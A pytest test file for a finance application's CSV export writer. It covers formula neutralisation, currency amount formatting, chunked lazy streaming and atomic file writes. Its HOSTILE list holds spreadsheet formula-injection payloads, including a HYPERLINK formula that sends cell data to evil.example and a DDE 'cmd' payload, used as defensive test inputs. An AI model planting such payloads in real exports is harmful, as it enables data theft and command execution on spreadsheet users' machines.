"""The CSV writer of the finance exports: cell rules, neutralisation, chunking and laziness."""

from __future__ import annotations

import csv
import io
import itertools
from collections.abc import Iterator
from datetime import UTC, date, datetime, timedelta, timezone
from decimal import Decimal

import pytest

from bounty.exports import csv_stream
from bounty.exports.csv_stream import Amount, cell, format_amount, neutralise, stream_rows
from bounty.exports.statements import JOURNAL_HEADER, journal_csv
from bounty.ledger import Money, UnknownCurrency

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(A1:A9)",
           "\t=1+1", "\r=1+1", "-2+3", "=1+1", "-12.50"]


def parse(chunks: Iterator[bytes] | list[bytes]) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(chunks).decode("utf-8"), newline="")))


@pytest.mark.parametrize("text", HOSTILE)
def test_text_beginning_with_a_formula_character_is_neutralised(text):
    assert neutralise(text) == "'" + text
    assert cell(text) == "'" + text


@pytest.mark.parametrize("text", ["Fix the health checks", "", "'quoted already", " =1 leading space",
                                  "a=b", "Renée Dubois", "12.50"])
def test_other_text_is_left_alone(text):
    assert neutralise(text) == text


@pytest.mark.parametrize(("minor", "currency", "text"), [
    (0, "EUR", "0.00"), (1, "EUR", "0.01"), (-1, "EUR", "-0.01"), (-1250, "EUR", "-12.50"),
    (123456789, "GBP", "1234567.89"), (-100, "CAD", "-1.00"), (1500, "JPY", "1500"), (-7, "ISK", "-7"),
    (10**40 + 5, "EUR", "1" + "0" * 38 + ".05"),
])
def test_amounts_have_exactly_the_currencys_digits(minor, currency, text):
    assert format_amount(minor, currency) == text
    assert cell(Money(minor, currency)) == text == cell(Amount(minor, currency))


def test_amount_formatting_matches_money_everywhere():
    for currency in ("EUR", "JPY", "GBP"):
        for minor in itertools.chain(range(-1005, 1006), (10**12 - 1, -(10**12) + 1, 99, -99)):
            assert format_amount(minor, currency) == Money(minor, currency).amount_str()


def test_negative_amounts_stay_numbers():
    # An amount is produced here, not typed in: never prefixed, though it begins with "-".
    [_, row] = parse(stream_rows(["memo", "amount"], [["-2+3", Money(-1250, "EUR")]]))
    assert row == ["'-2+3", "-12.50"]
    assert Decimal(row[1]) == Decimal("-12.50")


def test_cells_of_every_type():
    assert cell(None) == ""
    assert cell(True) == "true" and cell(False) == "false"
    assert cell(42) == "42" and cell(-42) == "-42"
    assert cell(Decimal("0.15")) == "0.15" and cell(Decimal("1E+2")) == "100"
    assert cell(date(2026, 3, 1)) == "2026-03-01"
    paris = timezone(timedelta(hours=1))
    assert cell(datetime(2026, 3, 1, 13, 30, tzinfo=paris)) == "2026-03-01T12:30:00+00:00"
    assert cell(datetime(2026, 3, 1, 12, 30, tzinfo=UTC)) == "2026-03-01T12:30:00+00:00"
    with pytest.raises(TypeError, match="floats are never money"):
        cell(12.5)
    with pytest.raises(UnknownCurrency):
        format_amount(100, "XXX")


def test_round_trip_of_awkward_text():
    awkward = ['comma, inside', 'quote " inside', "line\nbreak", "Grüße, 東京", "crlf\r\nend"]
    rows = [[text, Money(index, "EUR")] for index, text in enumerate(awkward)]
    parsed = parse(stream_rows(["text", "amount"], rows))
    assert parsed[0] == ["text", "amount"]
    assert [row[0] for row in parsed[1:]] == awkward
    raw = b"".join(stream_rows(["a"], [["x"]]))
    assert raw == b"a\r\nx\r\n"  # RFC 4180 line ends


def test_the_byte_order_mark_is_optional():
    assert b"".join(stream_rows(["a"], [], bom=True)).startswith(b"\xef\xbb\xbfa\r\n")
    assert b"".join(stream_rows(["a"], [])) == b"a\r\n"


def test_chunks_are_bounded_and_come_as_the_rows_do():
    pulled = 0

    def endless() -> Iterator[list[object]]:
        nonlocal pulled
        for number in itertools.count():
            pulled += 1
            yield [number, f"row {number}"]

    chunks = stream_rows(["n", "text"], endless(), rows_per_chunk=100)
    header = next(chunks)
    assert header == b"n,text\r\n" and pulled == 0
    first = next(chunks)
    assert pulled == 100  # one chunk's rows, not the (endless) whole
    assert first.count(b"\r\n") == 100
    for _ in range(5):
        assert next(chunks).count(b"\r\n") == 100
    assert pulled == 600


def test_the_last_chunk_holds_the_remainder():
    chunks = list(stream_rows(["n"], ([n] for n in range(250)), rows_per_chunk=100))
    assert [chunk.count(b"\r\n") for chunk in chunks] == [1, 100, 100, 50]
    assert [row[0] for row in parse(chunks)[1:]] == [str(n) for n in range(250)]
    with pytest.raises(ValueError, match="at least 1"):
        list(stream_rows(["n"], [[1]], rows_per_chunk=0))


def test_a_file_is_written_whole_or_not_at_all(tmp_path):
    target = tmp_path / "out.csv"
    written = csv_stream.write_chunks(target, stream_rows(["a"], [["x"], ["y"]]))
    assert target.read_bytes() == b"a\r\nx\r\ny\r\n" and written == 9

    def failing() -> Iterator[list[object]]:
        yield ["fine"]
        raise RuntimeError("database went away")

    broken = tmp_path / "broken.csv"
    with pytest.raises(RuntimeError):
        csv_stream.write_chunks(broken, stream_rows(["a"], failing(), rows_per_chunk=1))
    assert list(tmp_path.iterdir()) == [target]


def test_the_journals_fast_path_writes_what_the_generic_writer_writes():
    # The journal export builds its lines by hand for speed; byte for byte, they must be what
    # the csv module and the cell rules make of the same rows, hostile and awkward text included.
    texts = ["bounty 12 approved: Fix it", *HOSTILE, 'say "hi"', "a,b", "two\nlines", "Grüße", ""]
    rows = [(date(2026, 1 + n % 12, 1 + n % 28), n, texts[n % len(texts)], f"key:{n}",
             texts[(n * 7) % len(texts)], texts[(n * 3) % len(texts)] or "acct", ("EUR", "JPY", "GBP")[n % 3],
             (n * 7919) % 100_000 - 50_000) for n in range(300)]
    fast = b"".join(journal_csv([rows[:100], rows[100:250], [], rows[250:]]))
    generic = b"".join(stream_rows(JOURNAL_HEADER, (
        [day, n, kind, key, memo, account, currency, Amount(minor, currency)]
        for day, n, kind, key, memo, account, currency, minor in rows)))
    assert fast == generic
    parsed = parse([fast])
    assert len(parsed) == 301 and parsed[1][:2] == ["2026-01-01", "0"]
